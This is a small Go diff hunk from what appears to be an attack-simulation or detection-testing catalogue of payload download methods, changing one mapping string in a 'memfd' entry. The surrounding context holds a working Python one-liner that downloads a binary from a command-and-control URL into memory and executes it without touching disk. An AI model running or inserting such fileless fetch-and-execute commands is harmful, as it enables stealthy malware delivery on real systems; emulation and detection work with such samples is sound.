@@ -33,7 +33,7 @@ var downloads = []Shape{
 	},
 	{
 		Name: "memfd", About: "the tool never has a file: python reads it from the network into a memfd and executes that",
-		Play: simple(list(drop+" "+stage.C2), list("memfd:x=/memfd:x"),
+		Play: simple(list(drop+" "+stage.C2), list("memfd:x=memfd:x"),
 			`python3 -c "import urllib.request,os;f=os.memfd_create('x');os.write(f,urllib.request.urlopen('`+get("t")+`').read());os.execv('/proc/self/fd/%d'%f,['worker'])"`),
 	},
 	{
